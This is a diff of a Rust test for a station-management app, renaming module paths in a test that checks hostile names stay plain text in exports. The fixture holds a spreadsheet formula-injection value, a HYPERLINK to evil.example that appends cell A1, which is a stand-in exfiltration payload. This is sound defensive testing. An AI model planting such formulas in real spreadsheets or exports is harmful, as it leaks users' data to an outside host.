@@ -52,14 +52,14 @@ both_backends!(a_hostile_name_stays_text_in_the_export, |t: TestDb| async move {
     let app = App::new(t).await;
     let (street_a, _, _, _) = district(app.db()).await;
     let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")";
-    yizhan_store::stations::create(
+    yizhan_store::station::stations::create(
         app.db(),
         &yizhan_core::access::Actor::system(),
-        &yizhan_core::station::NewStation {
+        &yizhan_core::station::stations::NewStation {
             street_id: street_a,
             name: hostile.into(),
             address: "+86 深圳市龙岗区".into(),
-            kind: yizhan_core::station::StationKind::Hotel,
+            kind: yizhan_core::station::stations::StationKind::Hotel,
             capacity: 10,
             contact_name: "@联系人".into(),
             contact_phone: "13800138000".into(),
